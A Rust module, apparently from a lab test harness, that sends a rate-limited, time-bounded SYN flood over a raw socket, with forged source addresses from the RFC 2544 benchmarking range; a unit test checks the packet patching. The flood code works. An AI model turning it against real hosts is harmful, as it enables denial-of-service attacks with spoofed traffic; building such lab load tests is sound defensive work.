//! A SYN flood, bounded and within the lab: SYNs from addresses that are nobody's.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use etherparse::checksum::Sum16BitWords;
use rand::rngs::SmallRng;
use rand::{RngExt as _, SeedableRng as _};
use socket2::{Domain, Protocol, Socket, Type};

use crate::packets::{Segment, flow};

/// How often the next SYNs are sent.
const STEP: Duration = Duration::from_millis(1);
/// IPPROTO_RAW: the packet comes with its IP header.
const RAW: i32 = 255;
/// Where the addresses are from: the half of the benchmarking network (RFC 2544) in which no lab has anything.
const NETWORK: u32 = 0xc613_0000;

/// Sends so many SYNs per second from the thread's namespace, until told to stop or the time is over; how many it were.
pub(super) fn send(
    to: SocketAddrV4,
    per_second: u32,
    most: Duration,
    stop: &AtomicBool,
) -> io::Result<u64> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
    let mut random = SmallRng::seed_from_u64(u64::from(rand::random::<u32>()));
    let mut packet = template(to);
    let target = SocketAddrV4::new(*to.ip(), 0).into();
    let begin = Instant::now();
    let mut sent = 0u64;
    while !stop.load(Ordering::Relaxed) && begin.elapsed() < most {
        let due = (begin.elapsed().as_secs_f64() * f64::from(per_second)) as u64;
        // What could not be sent in time is not made up for by a burst.
        let behind = due
            .saturating_sub(sent)
            .min(u64::from(per_second) / 100 + 1);
        for _ in 0..behind {
            let source = Ipv4Addr::from(NETWORK | random.random_range(0..0x1_0000u32));
            let port = random.random_range(1024..u16::MAX);
            patch(&mut packet, source, port, random.random());
            match socket.send_to(&packet, &target) {
                Err(error) if error.raw_os_error() != Some(NO_BUFFERS) => return Err(error),
                Err(_) => break,
                Ok(_) => sent += 1,
            }
        }
        std::thread::sleep(STEP);
    }
    Ok(sent)
}

/// ENOBUFS: the interface's queue is full.
const NO_BUFFERS: i32 = 105;

/// A SYN, with the options of Linux.
fn template(to: SocketAddrV4) -> Vec<u8> {
    let syn = Segment::syn(&flow(Ipv4Addr::UNSPECIFIED, 0, to.port()));
    Segment {
        destination: (*to.ip(), to.port()),
        ..syn
    }
    .packet()
}

/// Makes the SYN another client's.
fn patch(packet: &mut [u8], source: Ipv4Addr, port: u16, seq: u32) {
    const IP: usize = 20;
    packet[10..12].fill(0);
    packet[12..16].copy_from_slice(&source.octets());
    let sum = Sum16BitWords::new().add_slice(&packet[..IP]);
    packet[10..12].copy_from_slice(&sum.ones_complement().to_ne_bytes());
    packet[IP..IP + 2].copy_from_slice(&port.to_be_bytes());
    packet[IP + 4..IP + 8].copy_from_slice(&seq.to_be_bytes());
    packet[IP + 16..IP + 18].fill(0);
    let length = (packet.len() - IP) as u16;
    let sum = Sum16BitWords::new()
        .add_slice(&packet[12..IP])
        .add_2bytes([0, 6])
        .add_2bytes(length.to_be_bytes())
        .add_slice(&packet[IP..]);
    packet[IP + 16..IP + 18].copy_from_slice(&sum.ones_complement().to_ne_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_patched_syn_is_the_one_made_anew() {
        let to = SocketAddrV4::new(dts_lab::VIP, 80);
        let mut packet = template(to);
        let source = Ipv4Addr::new(198, 19, 200, 9);
        patch(&mut packet, source, 5555, 0xdead_beef);
        let expected = Segment {
            seq: 0xdead_beef,
            ..Segment::syn(&flow(source, 5555, 80))
        };
        assert_eq!(packet, expected.packet());
    }
}
